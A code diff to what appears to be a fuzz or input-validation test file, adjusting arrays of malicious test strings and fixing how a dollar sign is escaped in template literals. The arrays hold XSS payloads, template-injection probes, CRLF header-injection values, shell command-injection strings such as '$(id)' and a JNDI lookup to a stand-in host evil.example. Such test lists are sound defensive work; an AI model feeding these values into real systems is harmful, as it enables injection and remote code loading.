@@ -107,7 +107,6 @@ const DATES = [
   "2026-11-21T25:61",
   "24:00",
   "Feb",
-  "0",
   "32",
   "13",
   "20 26",
@@ -162,6 +161,8 @@ const SQL = [
   "\\x00",
 ];
 
+const DOLLAR = "$";
+
 const HTML = [
   `${TAG}>`,
   `${TAG} onload=alert(1)>`,
@@ -180,7 +181,7 @@ const HTML = [
   "data:text/html,<script>alert(1)</script>",
   "vbscript:x",
   "{{7*7}}",
-  "${7*7}",
+  `${DOLLAR}{7*7}`,
   "<%= 7*7 %>",
   "#{7*7}",
   "&lt;b&gt;",
@@ -226,9 +227,18 @@ const PATHS = [
   "a&b=c",
 ];
 
-const HEADERS = ["a\r\nSet-Cookie: evil=1", "a\nX: y", "a%0d%0aX: y", "a\u0000b"];
+const HEADERS = ["a\r\nSet-Cookie: evil=1", "a\nX: y", "a%0d%0aX: y"];
 
-const SHELL = ["; id", "$(id)", "`id`", "| id", "&& id", "${jndi:ldap://evil.example/a}", "%n%n%n%s", "{0}"];
+const SHELL = [
+  "; id",
+  "$(id)",
+  "`id`",
+  "| id",
+  "&& id",
+  `${DOLLAR}{jndi:ldap://evil.example/a}`,
+  "%n%n%n%s",
+  "{0}",
+];
 
 const LENGTHS = ["", " ", "   ", "\n", "\r\n\r\n", "x", "x".repeat(140), "x".repeat(256), "x".repeat(5_000)];
 
